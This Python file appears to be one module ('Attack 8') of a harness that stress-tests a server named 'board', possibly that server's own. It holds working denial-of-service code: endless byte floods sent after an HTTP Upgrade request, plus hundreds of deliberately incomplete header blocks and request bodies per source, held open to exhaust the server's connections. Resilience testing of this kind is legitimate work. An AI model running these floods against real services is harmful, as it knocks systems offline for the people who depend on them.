"""Attack 8: bytes without end after a request with Upgrade, and headers and bodies that are never complete."""

import asyncio

from attacker import SOURCES, Target, open_stream, repeat

FLOODS = 2
INCOMPLETE_HEADERS = 300
INCOMPLETE_BODIES = 300
UPGRADE = b"GET /healthz HTTP/1.1\r\nHost: board\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n"
# Just below the limit of 16 KiB.
HEADERS = b"GET /healthz HTTP/1.1\r\nHost: board\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"a" * 300) for n in range(45))
# The largest body without its last byte.
BODY = (
    b"POST /api/v1/sessions HTTP/1.1\r\nHost: board\r\n"
    b"Content-Type: application/json\r\nContent-Length: 65536\r\n\r\n"
) + b" " * 65535
STARTS = [HEADERS] * INCOMPLETE_HEADERS + [BODY] * INCOMPLETE_BODIES


async def attack(target: Target) -> None:
    await asyncio.gather(
        *(repeat(target, lambda source=source: _flood(target, source)) for source in SOURCES for _ in range(FLOODS)),
        *(
            repeat(target, lambda source=source, start=start: _hold(target, source, start))
            for source in SOURCES
            for start in STARTS
        ),
    )


async def _flood(target: Target, source: str) -> str:
    """Sends as much as the server takes, until it closes the connection."""
    _, writer = await open_stream(target, source)
    try:
        writer.write(UPGRADE)
        while True:
            writer.write(bytes(65536))
            await writer.drain()
    finally:
        writer.close()


async def _hold(target: Target, source: str, start: bytes) -> str:
    """Sends a request without its end, and waits until the server closes the connection."""
    reader, writer = await open_stream(target, source)
    try:
        writer.write(start)
        await reader.read()
        return "closed"
    finally:
        writer.close()
